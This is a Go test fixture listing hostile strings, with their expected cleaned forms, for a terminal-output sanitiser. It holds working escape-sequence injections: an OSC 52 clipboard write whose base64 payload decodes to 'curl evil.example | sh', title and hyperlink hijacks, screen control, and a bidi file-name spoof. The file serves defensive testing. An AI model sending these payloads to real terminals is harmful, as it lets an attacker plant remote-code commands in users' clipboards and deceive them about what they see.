package sanitize

import "strings"

// Hostile is a corpus of strings a vendor could hand us that must never
// reach a terminal raw: OSC 52 clipboard writes, OSC 0/2 titles, OSC 8
// links, CSI clears, cursor moves and private modes, DSR queries, DCS, 8-bit
// C1 controls (UTF-8 encoded and raw bytes), bidi overrides and isolates,
// NUL and other C0 controls, a 100 KB value, and wide text (CJK, emoji ZWJ
// sequences and modifiers, combining marks) that must keep the layout
// aligned in any terminal. The
// simulator injects them under its hostile fault knob, and the tests assert
// that what comes out is clean and still readable. Each entry keeps some
// readable text so a test can find it after cleaning.
func Hostile() []HostileCase {
	return []HostileCase{
		{"osc52-clipboard", "eve\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "eve"},
		{"osc52-st", "eve\x1b]52;c;ZWNobyBwd25lZA==\x1b\\", "eve"},
		{"osc0-title", "\x1b]0;pwned\x07mallory", "mallory"},
		{"osc0-title-st", "\x1b]0;pwned\x1b\\trent", "trent"},
		{"osc2-title", "\x1b]2;owned\x07walter", "walter"},
		{"osc8-link", "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\", "click me"},
		{"osc8-link-bel", "\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07", "link"},
		{"csi-clear", "\x1b[2J\x1b[Hclear", "clear"},
		{"csi-move", "ab\x1b[10A\x1b[5Ccd", "abcd"},
		{"csi-position", "\x1b[10;20Hpos\x1b[K", "pos"},
		{"csi-private-modes", "\x1b[?1049l\x1b[?25l\x1b[?1000halt", "alt"},
		{"esc-reset", "\x1bcreset\x1b7\x1b8", "reset"},
		{"sgr", "\x1b[31;1mred\x1b[0m", "red"},
		{"dsr-query", "dsr\x1b[6n", "dsr"},
		{"dsr-variants", "\x1b[5n\x1b[?6nq\x1b[c", "q"},
		{"dcs", "\x1bP1$r0m\x1b\\dcs", "dcs"},
		{"c1-csi-8bit", "x\u009b31my", "x31my"},
		{"c1-osc-8bit", "y\u009d0;t\u009cz", "y0;tz"},
		{"c1-range", "c\u0080\u0085\u008d\u0090\u009f1", "c1"},
		{"raw-c1-byte", "b\x9b2Jc", "b\uFFFD2Jc"},
		{"raw-c1-osc", "o\x9d0;t\x9csc", "o\uFFFD0;t\uFFFDsc"},
		{"bidi-override", "user\u202Egnp.exe", "usergnp.exe"},
		{"bidi-isolate", "a\u2066b\u2069c", "abc"},
		{"bidi-isolates-all", "\u2066i\u2067s\u2068o\u2069", "iso"},
		{"bidi-embeddings", "\u202Aa\u202Bb\u202Cc\u202Dd\u200E\u200F\u061Ce", "abcde"},
		{"nul", "n\x00u\x00l", "nul"},
		{"bell-backspace", "bs\x07\x08x", "bsx"},
		{"del", "d\x7fel", "del"},
		{"newline-inject", "line1\nline2\rline3", "line1 line2 line3"},
		{"cjk", "山田太郎", "山田太郎"},
		// Emoji sequences whose width terminals disagree on are taken apart.
		{"emoji", "👩‍💻 dev 🚨", "👩💻 dev 🚨"},
		{"emoji-zwj-family", "👨‍👩‍👧‍👦 family 🏳️‍🌈", "👨👩👧👦 family 🏳🌈"},
		{"emoji-modifiers", "👋🏽 hi ❤️ 1️⃣ 🇯🇵", "👋 hi ❤ 1 🇯🇵"},
		{"wide-mixed", "ＡＢＣ 한국어 テスト", "ＡＢＣ 한국어 テスト"},
		{"combining", "Z\u0335a\u0336l\u0337g\u0338o", "Z\u0335a\u0336l\u0337g\u0338o"},
		{"long-100k", strings.Repeat("A", 100_000), strings.Repeat("A", MaxLine) + Ellipsis},
	}
}

// HostileCase is one entry of the corpus: the raw value and what Line
// should make of it.
type HostileCase struct {
	Name string
	Raw  string
	Line string
}
